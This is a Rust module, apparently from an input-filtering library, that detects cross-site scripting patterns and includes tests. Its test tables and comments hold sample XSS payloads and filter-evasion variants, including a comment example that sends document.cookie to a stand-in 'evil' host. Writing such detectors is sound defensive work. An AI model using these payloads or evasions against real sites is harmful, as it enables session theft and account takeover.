//! Cross-site scripting: allocation-free scanners over the decoded value.
//!
//! Rule ids (sensitivity at which each applies):
//! - `xss.script_tag` (low+): `<script` / `</script` as a tag (name then space, `/`, `>`, end).
//! - `xss.event_handler` (low+ inside a tag, medium+ after a quote breakout): an `on<event>=`
//!   attribute: `<img src=x onerror=...>`, `<svg/onload=...>`, `" autofocus onfocus="...`.
//! - `xss.js_url` (low+ with code after it, medium+ also after `=`, a quote or `(`, high any):
//!   `javascript:` / `vbscript:` / `livescript:`, tabs and newlines inside the scheme ignored.
//! - `xss.dangerous_tag` (medium+): `<iframe`, `<object`, `<embed`, `<svg`, `<math`, `<base`,
//!   `<meta`, `<link`, `<style`, `<applet`, `<frame[set]`, `<isindex`, `<template`, `<xss`.
//! - `xss.data_html` (medium+): `data:text/html`, `data:image/svg`, `data:application/xhtml`.
//! - `xss.css_expression` (medium+): `:expression(`, `-moz-binding:`, `behavior:url(`.
//! - `xss.js_breakout` (medium+): a quote, `;`, or operator right before a script sink call
//!   (`";alert(1)//`, `'-prompt(1)-'`, `';document.cookie`).
//! - `xss.template` (medium+): `{{ ... constructor ... }}` and similar template-sandbox escapes.
//! - `xss.html_tag` (high): any other tag outside a small set of formatting tags.
//! - `xss.dom_sink` (medium+): a JavaScript sink or popup call without a tag around it
//!   (`document.cookie`, `.innerHTML`, `alert\`1\``, `window['al'+'ert']`, `eval(`).
//! - `xss.utf7` (medium+): UTF-7 encoded markup, `+ADw-script+AD4-`.
//!
//! Namespaced tags (`<x:script>`, `<svg:svg onload=...>`) are read by their local name, and
//! legacy tags (`<marquee>`, `<xmp>`, `<plaintext>`, `<keygen>`, ...) are dangerous tags.

use super::sensitivity::Sensitivity;
use super::text::{
    at, find_ci, is_ws, letters, lower_at, prev_non_ws, skip_ws, starts_ci, word_in, ByteSet, Words,
};

const DANGEROUS: &[&[u8]] = &[
    b"iframe",
    b"object",
    b"embed",
    b"svg",
    b"math",
    b"base",
    b"meta",
    b"link",
    b"style",
    b"applet",
    b"frame",
    b"frameset",
    b"isindex",
    b"template",
    b"xss",
    b"portal",
    b"xml",
    b"import",
    b"bgsound",
    b"layer",
    b"ilayer",
    // Legacy and SVG-animation tags that run script or handlers.
    b"marquee",
    b"blink",
    b"plaintext",
    b"xmp",
    b"keygen",
    b"vmlframe",
    b"animate",
    b"discard",
    b"noembed",
];

/// Tags that ordinary rich text uses; only `high` reports tags outside this list.
const FORMATTING: &[&[u8]] = &[
    b"a",
    b"b",
    b"i",
    b"u",
    b"p",
    b"s",
    b"q",
    b"br",
    b"hr",
    b"em",
    b"strong",
    b"code",
    b"pre",
    b"ul",
    b"ol",
    b"li",
    b"span",
    b"div",
    b"h1",
    b"h2",
    b"h3",
    b"h4",
    b"h5",
    b"h6",
    b"blockquote",
    b"table",
    b"tr",
    b"td",
    b"th",
    b"thead",
    b"tbody",
    b"sup",
    b"sub",
    b"small",
    b"img",
    b"kbd",
    b"dl",
    b"dt",
    b"dd",
    b"caption",
    b"cite",
    b"mark",
    b"del",
    b"ins",
    b"abbr",
    b"tt",
];

/// Event names after `on`, exact; prefix groups below.
const EVENTS: &[&[u8]] = &[
    b"abort",
    b"auxclick",
    b"begin",
    b"blur",
    b"canplay",
    b"canplaythrough",
    b"change",
    b"click",
    b"close",
    b"contextmenu",
    b"copy",
    b"cuechange",
    b"cut",
    b"dblclick",
    b"drop",
    b"durationchange",
    b"end",
    b"ended",
    b"error",
    b"finish",
    b"bounce",
    b"formdata",
    b"hashchange",
    b"input",
    b"invalid",
    b"message",
    b"offline",
    b"online",
    b"pagehide",
    b"pageshow",
    b"paste",
    b"pause",
    b"play",
    b"playing",
    b"popstate",
    b"progress",
    b"ratechange",
    b"readystatechange",
    b"repeat",
    b"reset",
    b"resize",
    b"scroll",
    b"scrollend",
    b"search",
    b"seeked",
    b"seeking",
    b"select",
    b"selectionchange",
    b"selectstart",
    b"show",
    b"start",
    b"storage",
    b"submit",
    b"suspend",
    b"timeupdate",
    b"toggle",
    b"unload",
    b"volumechange",
    b"waiting",
    b"wheel",
    b"securitypolicyviolation",
    b"fullscreenchange",
];
const EVENT_PREFIXES: &[&[u8]] = &[
    b"mouse",
    b"key",
    b"pointer",
    b"touch",
    b"drag",
    b"animation",
    b"transition",
    b"focus",
    b"load",
    b"before",
    b"after",
    b"webkit",
];

const SINKS: Words = Words::new(&[
    b"alert",
    b"prompt",
    b"confirm",
    b"eval",
    b"settimeout",
    b"setinterval",
    b"fetch",
    b"import",
    b"atob",
    b"string.fromcharcode",
    b"document.cookie",
    b"document.write",
    b"document.location",
    b"document.domain",
    b"window.location",
    b"window.open",
    b"top.location",
    b"self.location",
    b"location.href",
    b"constructor",
]);

fn is_event(s: &[u8], i: usize, len: usize) -> bool {
    word_in(s, i, len, EVENTS)
        || EVENT_PREFIXES
            .iter()
            .any(|p| len >= p.len() && starts_ci(s, i, p))
}

/// A tag name (letters and digits, NULs inside skipped) into `buf`; returns its length in
/// `buf` and the position after it.
fn tag_name(s: &[u8], mut j: usize, buf: &mut [u8; 16]) -> (usize, usize) {
    let mut n = 0;
    while let Some(b) = at(s, j) {
        if b == 0 {
            j += 1;
            continue;
        }
        if !b.is_ascii_alphanumeric() || n == buf.len() {
            break;
        }
        if let Some(slot) = buf.get_mut(n) {
            *slot = b.to_ascii_lowercase();
        }
        n += 1;
        j += 1;
    }
    (n, j)
}

/// A tag at `s[p] == '<'`: returns the rule id, and where scanning may resume.
fn tag_at(s: &[u8], p: usize, sens: Sensitivity) -> Option<&'static str> {
    let mut j = p + 1;
    let closing = at(s, j) == Some(b'/');
    if closing {
        j += 1;
    }
    if !at(s, j).is_some_and(|b| b.is_ascii_alphabetic()) {
        return None;
    }
    let mut buf = [0u8; 16];
    let (mut n, mut after) = tag_name(s, j, &mut buf);
    // A namespaced tag (`<x:script>`, `<svg:svg>`, `<html:img>`): XML parsers and old IE read
    // the local name.
    if at(s, after) == Some(b':') && at(s, after + 1).is_some_and(|b| b.is_ascii_alphabetic()) {
        (n, after) = tag_name(s, after + 1, &mut buf);
    }
    let name = buf.get(..n).unwrap_or_default();
    if !at(s, after).is_none_or(|b| is_ws(b) || matches!(b, b'/' | b'>' | 0)) {
        return None;
    }
    if name == b"script" {
        return Some("xss.script_tag");
    }
    if closing {
        return None;
    }
    // Attributes, up to the end of the tag (or the next tag, so total work stays linear).
    let mut k = after;
    while let Some(b) = at(s, k) {
        if b == b'>' || b == b'<' {
            break;
        }
        let boundary = is_ws(b) || matches!(b, b'/' | b'"' | b'\'' | 0);
        if boundary
            && matches!(lower_at(s, k + 1), Some(b'o'))
            && matches!(lower_at(s, k + 2), Some(b'n'))
        {
            let len = letters(s, k + 3);
            if len >= 3 && at(s, skip_ws(s, k + 3 + len)) == Some(b'=') {
                return Some("xss.event_handler");
            }
        }
        k += 1;
    }
    if sens >= Sensitivity::Medium && DANGEROUS.contains(&name) {
        return Some("xss.dangerous_tag");
    }
    if sens >= Sensitivity::High && !FORMATTING.contains(&name) {
        return Some("xss.html_tag");
    }
    None
}

/// The script schemes `js_url` looks for.
const SCRIPT_SCHEMES: [&[u8]; 3] = [b"javascript", b"vbscript", b"livescript"];

/// Where `scheme` starts if it ends with its last letter at `last`, with up to 8 tabs,
/// newlines or NULs spread between its letters (an evasion browsers accept).
fn scheme_start(s: &[u8], last: usize, scheme: &[u8]) -> Option<usize> {
    let mut letters = scheme.iter().rev();
    if lower_at(s, last) != letters.next().copied() {
        return None;
    }
    let mut j = last;
    let mut skipped = 0;
    for &c in letters {
        j = j.checked_sub(1)?;
        while matches!(at(s, j), Some(b'\t' | b'\n' | b'\r' | 0)) && skipped < 8 {
            j = j.checked_sub(1)?;
            skipped += 1;
        }
        if lower_at(s, j) != Some(c) {
            return None;
        }
    }
    Some(j)
}

/// Whether what follows a `javascript:` looks like code rather than prose.
fn code_follows(s: &[u8], i: usize) -> bool {
    let k = skip_ws(s, i);
    match at(s, k) {
        Some(
            b'(' | b'/' | b'\'' | b'"' | b'`' | b'[' | b'{' | b'\\' | b';' | b'$' | b'_' | b'!'
            | b'~' | b'+' | b'-',
        ) => true,
        Some(b) if b.is_ascii_alphabetic() => {
            let n = s.get(k..).map_or(0, |t| {
                t.iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_' || **c == b'$')
                    .count()
            });
            matches!(at(s, k + n), Some(b'(' | b'.' | b'[' | b'=' | b'`' | b';'))
        }
        _ => false,
    }
}

/// `javascript:` and friends. Anchored at each `:` (the scheme is what ends at the last
/// non-blank before it), so text without a colon costs one byte search.
fn js_url(s: &[u8], sens: Sensitivity) -> Option<&'static str> {
    for (colon, _) in s.iter().enumerate().filter(|(_, &b)| b == b':') {
        let Some(last) = prev_non_ws(s, colon) else {
            continue;
        };
        for scheme in SCRIPT_SCHEMES {
            let Some(i) = scheme_start(s, last, scheme) else {
                continue;
            };
            let before = prev_non_ws(s, i).and_then(|p| at(s, p));
            let attr = matches!(before, Some(b'=' | b'"' | b'\'' | b'(' | b'`'));
            if code_follows(s, colon + 1)
                || (attr && sens >= Sensitivity::Medium)
                || sens >= Sensitivity::High
            {
                return Some("xss.js_url");
            }
        }
    }
    None
}

fn data_html(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = find_ci(s, b"data:", from) {
        let k = skip_ws(s, p + 5);
        if [
            &b"text/html"[..],
            b"image/svg",
            b"application/xhtml",
            b"text/xml",
        ]
        .iter()
        .any(|m| starts_ci(s, k, m))
        {
            return true;
        }
        from = p + 5;
    }
    false
}

/// `paren`: whether `s` holds a `(` or `)`. `expression(` and `behavior: url(` need one; without
/// it only `-moz-binding` is searched.
fn css_expression(s: &[u8], paren: bool) -> bool {
    let mut from = 0;
    while let Some(p) = paren.then(|| find_ci(s, b"expression", from)).flatten() {
        from = p + 10;
        let mut k = skip_ws(s, p + 10);
        // CSS comments between the name and the parenthesis.
        while starts_ci(s, k, b"/*") {
            k = find_ci(s, b"*/", k + 2).map_or(s.len(), |e| skip_ws(s, e + 2));
        }
        if at(s, k) == Some(b'(') && prev_non_ws(s, p).and_then(|q| at(s, q)) == Some(b':') {
            return true;
        }
    }
    if let Some(p) = find_ci(s, b"-moz-binding", 0) {
        if at(s, skip_ws(s, p + 12)) == Some(b':') {
            return true;
        }
    }
    if let Some(p) = paren.then(|| find_ci(s, b"behavior", 0)).flatten() {
        let k = skip_ws(s, p + 8);
        if at(s, k) == Some(b':') && starts_ci(s, skip_ws(s, k + 1), b"url(") {
            return true;
        }
    }
    false
}

/// What may close a string or statement right before an injected call.
const BREAKS_OUT: ByteSet = ByteSet::new(b"'\";+-*|&>`{},=");

/// A script sink called at `i`: `alert(`, a tagged template, or a dotted sink not followed by
/// a name character (`document.cookie`).
fn sink_call_at(s: &[u8], i: usize) -> bool {
    if i > 0 && at(s, i - 1).is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.') {
        return false;
    }
    let Some(sink) = SINKS.prefix_at(s, i) else {
        return false;
    };
    let after = at(s, skip_ws(s, i + sink.len()));
    let dotted = sink.contains(&b'.');
    matches!(after, Some(b'(' | b'`'))
        || (dotted && !after.is_some_and(|b| b.is_ascii_alphanumeric()))
}

/// A script sink right after a string or statement break: `";alert(1)//`, `'-alert(1)-'`.
/// Anchored at the break characters (few in prose): the sink is the first non-blank after one.
fn js_breakout(s: &[u8]) -> bool {
    s.iter().enumerate().any(|(p, &before)| {
        BREAKS_OUT.contains(before)
            && sink_call_at(s, skip_ws(s, p + 1))
            // `,` and `=` only count when a quote is also present (a breakout, not a list).
            && (!matches!(before, b',' | b'=') || s.iter().any(|&b| b == b'\'' || b == b'"'))
    })
}

fn template(s: &[u8], sens: Sensitivity) -> bool {
    let mut from = 0;
    while let Some(p) = find_ci(s, b"{{", from) {
        from = p + 2;
        let end = find_ci(s, b"}}", p + 2).unwrap_or(s.len()).min(p + 2 + 200);
        let inner = s.get(p + 2..end).unwrap_or_default();
        if [
            &b"constructor"[..],
            b"alert(",
            b"$eval",
            b"$on",
            b"_c.",
            b"__proto__",
            b"prototype",
        ]
        .iter()
        .any(|m| find_ci(inner, m, 0).is_some())
        {
            return true;
        }
        if sens >= Sensitivity::High && inner.contains(&b'(') {
            return true;
        }
    }
    false
}

/// An `on<event>=` attribute outside a tag: the value closes an attribute and adds its own.
fn event_breakout(s: &[u8]) -> bool {
    if !s.iter().any(|&b| matches!(b, b'"' | b'\'' | b'<' | b'>')) {
        return false;
    }
    for i in 0..s.len() {
        if lower_at(s, i) != Some(b'o') || lower_at(s, i + 1) != Some(b'n') {
            continue;
        }
        let bounded = i == 0
            || at(s, i - 1).is_some_and(|b| is_ws(b) || matches!(b, b'/' | b'"' | b'\'' | 0));
        if !bounded {
            continue;
        }
        let len = letters(s, i + 2);
        if is_event(s, i + 2, len) && at(s, skip_ws(s, i + 2 + len)) == Some(b'=') {
            return true;
        }
    }
    false
}

/// The words (first word of each entry, see `inert.rs`) without which no rule here reports at
/// `medium` or below once `<`, quotes, backticks, `{`, `+` and `%` are ruled out: sinks,
/// script schemes, `data:`, UTF-7 shifts after a blank.
pub(super) fn trigger_words() -> [&'static [&'static [u8]]; 3] {
    [
        SINKS.list(),
        &SCRIPT_SCHEMES,
        &[b"data:", b"adw-", b"ad4-", b"aci-"],
    ]
}

/// Words the rules find inside other words: the CSS ones, and the DOM sinks (matched as
/// prefixes: `.innerHTMLx` is one).
pub(super) fn substring_triggers() -> [&'static [&'static [u8]]; 2] {
    [&[b"expression", b"behavior", b"binding"], DOM_SINKS.list()]
}

/// The rule id of the first XSS pattern in `s` (already decoded), if any.
pub fn detect(s: &[u8], mask: u32, sens: Sensitivity) -> Option<&'static str> {
    use super::decode as d;
    let medium = sens >= Sensitivity::Medium;
    if medium && mask & (d::SPACE | d::PLUS) != 0 && utf7(s) {
        return Some("xss.utf7");
    }
    if mask & (d::LT | d::COLON | d::PAREN | d::BRACE | d::QUOTE | d::EQ | d::BACKTICK) == 0 {
        return None;
    }
    if mask & d::LT != 0 {
        let mut i = 0;
        while let Some(p) = s.get(i..).and_then(|t| t.iter().position(|&b| b == b'<')) {
            if let Some(r) = tag_at(s, i + p, sens) {
                return Some(r);
            }
            i += p + 1;
        }
    }
    if mask & d::COLON != 0 {
        if let Some(r) = js_url(s, sens) {
            return Some(r);
        }
        if medium && data_html(s) {
            return Some("xss.data_html");
        }
    }
    if !medium {
        return None;
    }
    if mask & d::EQ != 0 && event_breakout(s) {
        return Some("xss.event_handler");
    }
    if mask & (d::PAREN | d::COLON) != 0 && css_expression(s, mask & d::PAREN != 0) {
        return Some("xss.css_expression");
    }
    if mask & d::BRACE != 0 && template(s, sens) {
        return Some("xss.template");
    }
    if mask & (d::PAREN | d::BACKTICK | d::SEMI) != 0 && js_breakout(s) {
        return Some("xss.js_breakout");
    }
    if mask & d::PAREN != 0 && popup_call(s) {
        return Some("xss.dom_sink");
    }
    if mask & (d::PAREN | d::BACKTICK | d::EQ) != 0 && dom_sink(s) {
        return Some("xss.dom_sink");
    }
    None
}

/// JavaScript sinks and calls an XSS payload uses, with no tag around them: the payload lands
/// in a script or an attribute (`";document.location='//evil/'+document.cookie`,
/// `alert\`1\``, `[].constructor.constructor('x')()`, `window['al'+'ert'](1)`).
const DOM_SINKS: Words = Words::new(&[
    b"document.cookie",
    b"document.write",
    b"document.domain",
    b"document.location",
    b"window.location",
    b"location.href",
    b"location.hash",
    b".innerhtml",
    b".outerhtml",
    b"fromcharcode",
    b"constructor.constructor",
    b"constructor(",
    b"settimeout(",
    b"setinterval(",
    b"eval(",
    b"atob(",
    b"alert`",
    b"prompt`",
    b"confirm`",
    b"top[",
    b"window[",
    b"self[",
    b"parent[",
    b"globalthis[",
    b"import(",
    b"new function",
    b"onerror=alert",
    b"appendchild(",
    b"createelement(",
    b"xmlhttprequest",
    b"srcdoc=",
]);

/// A sink of `DOM_SINKS` around one of the punctuation bytes every sink holds (`.`, `(`, `[`,
/// `` ` ``, `=`): only the word before each such byte is looked up, not every position.
fn dom_sink(s: &[u8]) -> bool {
    static PUNCT: ByteSet = ByteSet::new(b".([`=");
    let mut from = 0;
    while let Some(p) = s
        .get(from..)
        .and_then(|t| t.iter().position(|&b| PUNCT.contains(b)))
    {
        let q = from + p;
        from = q + 1;
        // The sink starts at the word before the byte (`document.cookie`, `eval(`), or at the
        // byte itself (`.innerHTML`).
        let start = q - s.get(..q).map_or(0, |t| {
            t.iter()
                .rev()
                .take_while(|b| b.is_ascii_alphanumeric())
                .count()
        });
        if DOM_SINKS.prefix_at(s, start).is_some() || DOM_SINKS.prefix_at(s, q).is_some() {
            return true;
        }
    }
    false
}

/// `alert(1)`, `prompt(document.domain)`, `confirm(x)`: a popup called with an argument
/// ("call alert() sparingly" in prose has none). Found from each `(` back to its word.
fn popup_call(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s
        .get(from..)
        .and_then(|t| t.iter().position(|&b| b == b'('))
    {
        let open = from + p;
        from = open + 1;
        if at(s, open + 1).is_none_or(|b| b == b')') {
            continue;
        }
        let start = open
            - s.get(..open).map_or(0, |t| {
                t.iter()
                    .rev()
                    .take_while(|b| b.is_ascii_alphabetic())
                    .count()
            });
        let word = s.get(start..open).unwrap_or_default();
        if [&b"alert"[..], b"prompt", b"confirm"]
            .iter()
            .any(|w| word.eq_ignore_ascii_case(w))
        {
            return true;
        }
    }
    false
}

/// UTF-7 encoded markup (`+ADw-script+AD4-`): `<`, `>` and `"` as UTF-7 shifts, after `+` or
/// the space a query's `+` decodes to.
fn utf7(s: &[u8]) -> bool {
    let mut i = 0;
    while let Some(p) = s.get(i..).and_then(|t| t.iter().position(|&b| b == b'A')) {
        let a = i + p;
        i = a + 1;
        if a > 0
            && matches!(at(s, a - 1), Some(b'+' | b' '))
            && matches!(s.get(a..a + 4), Some(b"ADw-" | b"AD4-" | b"ACI-"))
        {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::super::decode::scan;
    use super::*;
    use proptest::prelude::*;

    /// `js_url` as it was written before it was anchored at colons: every position tried.
    fn js_url_reference(s: &[u8], sens: Sensitivity) -> Option<&'static str> {
        let scheme_end = |i: usize| {
            for scheme in SCRIPT_SCHEMES {
                let mut j = i;
                let mut skipped = 0;
                let mut ok = true;
                for &c in scheme {
                    while matches!(at(s, j), Some(b'\t' | b'\n' | b'\r' | 0)) && skipped < 8 {
                        j += 1;
                        skipped += 1;
                    }
                    if lower_at(s, j) != Some(c) {
                        ok = false;
                        break;
                    }
                    j += 1;
                }
                if ok {
                    let k = skip_ws(s, j);
                    if at(s, k) == Some(b':') {
                        return Some(k + 1);
                    }
                }
            }
            None
        };
        for i in 0..s.len() {
            if !matches!(lower_at(s, i), Some(b'j' | b'v' | b'l')) {
                continue;
            }
            let Some(end) = scheme_end(i) else {
                continue;
            };
            let before = prev_non_ws(s, i).and_then(|p| at(s, p));
            let attr = matches!(before, Some(b'=' | b'"' | b'\'' | b'(' | b'`'));
            if code_follows(s, end)
                || (attr && sens >= Sensitivity::Medium)
                || sens >= Sensitivity::High
            {
                return Some("xss.js_url");
            }
        }
        None
    }

    /// `js_breakout` as it was written before it was anchored at break characters.
    fn js_breakout_reference(s: &[u8]) -> bool {
        for i in 0..s.len() {
            let Some(sink) = SINKS.list().iter().find(|p| starts_ci(s, i, p)) else {
                continue;
            };
            if i > 0
                && at(s, i - 1).is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.')
            {
                continue;
            }
            let after = at(s, skip_ws(s, i + sink.len()));
            let dotted = sink.contains(&b'.');
            if !(matches!(after, Some(b'(' | b'`'))
                || (dotted && !after.is_some_and(|b| b.is_ascii_alphanumeric())))
            {
                continue;
            }
            let before = prev_non_ws(s, i).and_then(|p| at(s, p));
            if matches!(
                before,
                Some(
                    b'\''
                        | b'"'
                        | b';'
                        | b'+'
                        | b'-'
                        | b'*'
                        | b'|'
                        | b'&'
                        | b'>'
                        | b'`'
                        | b'{'
                        | b'}'
                        | b','
                        | b'='
                )
            ) {
                if matches!(before, Some(b',' | b'='))
                    && !s.iter().any(|&b| b == b'\'' || b == b'"')
                {
                    continue;
                }
                return true;
            }
        }
        false
    }

    /// Values made of scheme and sink pieces, separators, blanks and the characters the
    /// evasions put between letters.
    fn pieces() -> impl Strategy<Value = Vec<u8>> {
        let words: Vec<&[u8]> = vec![
            b"javascript",
            b"JavaScript",
            b"java",
            b"script",
            b"vb",
            b"live",
            b"livescript:",
            b"j",
            b"a",
            b"v",
            b"s",
            b"t",
            b"\t",
            b"\n",
            b"\r",
            b"\0",
            b" ",
            b"\xa0",
            b":",
            b"::",
            b"(",
            b"`",
            b"'",
            b"\"",
            b";",
            b",",
            b"=",
            b"-",
            b"x",
            b"_",
            b".",
            b"1",
            b"alert",
            b"ALERT",
            b"document.cookie",
            b"window.open",
            b"eval",
            b"top.location",
            b"string",
        ];
        proptest::collection::vec(proptest::sample::select(words), 0..14).prop_map(|p| p.concat())
    }

    /// A script scheme with tabs, newlines, CRs or NULs spread between its letters, then
    /// blanks and maybe a colon: around the 8-character allowance.
    fn spread_scheme() -> impl Strategy<Value = Vec<u8>> {
        (
            proptest::sample::select(SCRIPT_SCHEMES.to_vec()),
            proptest::collection::vec(
                proptest::collection::vec(proptest::sample::select(b"\t\n\r\0".to_vec()), 0..4),
                11,
            ),
            proptest::collection::vec(proptest::sample::select(b" \t\xa0\0".to_vec()), 0..3),
            any::<bool>(),
            any::<bool>(),
        )
            .prop_map(|(scheme, gaps, blanks, upper, colon)| {
                let mut out = Vec::new();
                for (k, &c) in scheme.iter().enumerate() {
                    if k > 0 {
                        out.extend(gaps.get(k).into_iter().flatten());
                    }
                    out.push(if upper { c.to_ascii_uppercase() } else { c });
                }
                out.extend(blanks);
                if colon {
                    out.push(b':');
                }
                out
            })
    }

    proptest! {
        #[test]
        fn spread_schemes_agree_with_the_reference(
            (a, scheme, b) in (pieces(), spread_scheme(), pieces()),
        ) {
            let s = [a, scheme, b].concat();
            for sens in Sensitivity::ALL {
                prop_assert_eq!(js_url(&s, sens), js_url_reference(&s, sens));
            }
        }

        #[test]
        fn js_url_agrees_with_the_reference(s in pieces()) {
            for sens in Sensitivity::ALL {
                prop_assert_eq!(js_url(&s, sens), js_url_reference(&s, sens));
            }
        }

        #[test]
        fn js_breakout_agrees_with_the_reference(s in pieces()) {
            prop_assert_eq!(js_breakout(&s), js_breakout_reference(&s));
        }
    }

    fn check(s: &str, sens: Sensitivity) -> Option<&'static str> {
        detect(s.as_bytes(), scan(s.as_bytes()), sens)
    }

    #[test]
    fn detects_table() {
        let cases: &[(&str, &str)] = &[
            ("<script>alert(1)</script>", "xss.script_tag"),
            ("<ScRiPt src=//x.example/a.js>", "xss.script_tag"),
            ("<scr\0ipt>", "xss.script_tag"),
            ("<img src=x onerror=alert(1)>", "xss.event_handler"),
            ("<svg/onload=alert(1)>", "xss.event_handler"),
            ("<body onload = alert(1)", "xss.event_handler"),
            ("\" autofocus onfocus=\"alert(1)", "xss.event_handler"),
            ("javascript:alert(1)", "xss.js_url"),
            ("java\tscript:alert(1)", "xss.js_url"),
            ("<a href=\"javascript:void(0)\">", "xss.js_url"),
            ("<iframe src=//evil.example>", "xss.dangerous_tag"),
            ("data:text/html;base64,PHNjcmlwdD4=", "xss.data_html"),
            ("width: expression(alert(1))", "xss.css_expression"),
            ("\";alert(1)//", "xss.js_breakout"),
            ("'-alert(1)-'", "xss.js_breakout"),
            ("{{constructor.constructor('alert(1)')()}}", "xss.template"),
        ];
        for (s, want) in cases {
            assert_eq!(check(s, Sensitivity::Medium), Some(*want), "{s}");
        }
    }

    #[test]
    fn benign_table() {
        for s in [
            "JavaScript: The Good Parts",
            "a < b and c > d",
            "<b>bold</b> and <i>italic</i>",
            "Use a regular expression (regex) here",
            "The status is online=true",
            "Behavior: calm and friendly",
            "Call alert() sparingly",
            "x <= 3",
            "Hello {{name}}, welcome",
            "<3 love it",
            "https://example.com/a?b=c",
        ] {
            assert_eq!(check(s, Sensitivity::Medium), None, "{s}");
        }
    }

    #[test]
    fn sensitivity_changes_reach() {
        assert_eq!(check("<iframe src=x>", Sensitivity::Low), None);
        assert_eq!(check("<section>", Sensitivity::Medium), None);
        assert_eq!(check("<section>", Sensitivity::High), Some("xss.html_tag"));
        // Legacy tags are dangerous tags since the public-corpus round.
        assert_eq!(
            check("<marquee>", Sensitivity::Medium),
            Some("xss.dangerous_tag")
        );
        assert_eq!(check("href=javascript:x", Sensitivity::Low), None);
        assert_eq!(
            check("href=javascript:x", Sensitivity::Medium),
            Some("xss.js_url")
        );
    }
}
